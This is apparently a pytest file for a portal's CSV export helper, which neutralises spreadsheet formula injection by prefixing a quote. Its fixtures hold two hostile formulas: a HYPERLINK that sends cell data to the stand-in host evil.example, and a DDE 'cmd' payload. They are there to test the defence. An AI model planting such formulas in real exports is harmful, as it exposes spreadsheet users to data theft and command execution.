"""The one helper every CSV export writes through: no cell a spreadsheet would run as a formula.

OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection): cells beginning with
`=`, `+`, `-`, `@`, tab (0x09) or carriage return (0x0D) get a leading single quote.
"""

import csv
import datetime
import io

import pytest

from portal.exports import csv_writer, safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
            '\'=HYPERLINK("https://evil.example/?x="&A1,"Open")',
        ),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Ordinary text, even with a formula sign inside, and numbers (negative ones too) stay as they are.
        ("Summarise = shorten", "Summarise = shorten"),
        ("Sales", "Sales"),
        ("", ""),
        (-3, -3),
        (-2.5, -2.5),
        (0, 0),
        (None, None),
        (True, True),
        (datetime.date(2026, 11, 1), datetime.date(2026, 11, 1)),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_objects_are_written_as_their_text_and_neutralised_too():
    class Department:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert safe_cell(Department()) == "'=cmd|' /C calc'!A0"


def test_the_writer_neutralises_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["title", "kgco2e"])
    writer.writerows([["=1+1", -4.5], ["@A1", 3]])

    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["title", "kgco2e"], ["'=1+1", "-4.5"], ["'@A1", "3"]]
